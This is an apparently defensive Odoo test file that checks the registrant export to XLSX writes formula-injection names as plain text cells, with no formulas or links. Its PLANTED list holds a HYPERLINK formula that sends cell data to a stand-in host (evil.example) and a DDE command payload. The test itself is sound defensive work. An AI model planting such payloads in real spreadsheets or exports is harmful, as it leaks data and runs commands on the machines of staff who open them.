import io
import json

import openpyxl

from odoo import http
from odoo.tests import HttpCase, new_test_user, tagged

PLANTED = ['=HYPERLINK("https://evil.example/?d="&A1,"Open record")', "+cmd|' /C calc'!A0", "https://evil.example/x"]


@tagged("post_install", "-at_install")
class TestSpreadsheetExport(HttpCase):
    """A name a partner sent as a formula (CSV/formula injection) is exported to XLSX as the text it is: staff
    who open the list in a spreadsheet see it exactly, and nothing runs or links."""

    def test_registrant_names_are_exported_as_text_never_as_formulas(self):
        viewer = "g2p_partner_api.group_registry_viewer,base.group_allow_export"
        new_test_user(self.env, "export_viewer", password="export_viewer_pw_Zz9", groups=viewer)
        registrants = self.env["res.partner"].create(
            [{"is_registrant": True, "is_group": True, "is_company": True, "name": name} for name in PLANTED]
        )
        self.authenticate("export_viewer", "export_viewer_pw_Zz9")
        data = {
            "model": "res.partner",
            "fields": [{"name": "name", "label": "Name", "type": "char"}],
            "ids": registrants.ids,
            "domain": [],
            "groupby": [],
            "import_compat": False,
        }
        response = self.url_open(
            "/web/export/xlsx", data={"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)}
        )
        self.assertEqual(response.status_code, 200, response.text[:500])
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        cells = [row[0] for row in sheet.iter_rows(min_row=2)]
        self.assertEqual(sorted(cell.value for cell in cells), sorted(PLANTED), "exported exactly as sent")
        self.assertEqual({cell.data_type for cell in cells}, {"s"}, "text cells, no formula")
        self.assertFalse([cell for cell in cells if cell.hyperlink], "no link made of a URL-looking name")
        self.assertEqual(sorted(registrants.mapped("name")), sorted(PLANTED), "the registry keeps what was sent")
